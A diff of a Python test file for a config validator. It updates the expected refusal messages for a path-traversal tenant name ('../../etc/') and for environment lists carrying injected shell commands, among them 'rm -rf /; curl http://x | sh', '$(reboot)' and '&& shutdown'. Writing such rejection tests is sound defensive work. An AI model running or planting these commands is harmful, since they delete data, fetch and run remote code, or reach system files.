@@ -20,7 +20,8 @@ def refused(text: str) -> list[tuple[int, str, str]]:
 
 def test_a_traversal_tenant_is_refused_at_its_tree_line_not_dropped():
     text = TENANT.replace("    └── initech/\n\nkubernetes", "    ├── initech/\n    └── ../../etc/\n\nkubernetes")
-    assert refused(text) == [(line_of(text, "../../etc/"), "tenants", "tenant '../../etc' is not a DNS-1123 label")]
+    assert refused(text) == [(line_of(text, "../../etc/"), "tenants", "tenant '../../etc' is not a DNS-1123 label: "
+                                                                   "'.' is not a lowercase letter, digit or '-'")]
 
 
 @pytest.mark.parametrize("old,new,bad", [
@@ -41,7 +42,7 @@ def test_a_region_field_naming_no_region_is_refused():
     ("dev; rm -rf /; curl http://x | sh", "shell metacharacter '|'"),
     ("dev, $(reboot), prod", "shell metacharacter '$'"),
     ("dev && shutdown", "shell metacharacter '&'"),
-    ("dev, rm -rf, prod", "'rm -rf' is not an environment name"),
+    ("dev, rm -rf, prod", "environment 'rm -rf' is not a DNS-1123 label: a blank"),
 ])
 def test_an_environment_list_with_a_command_is_refused_at_its_line(value, message):
     text = EKS.replace("dev, staging, production", value)
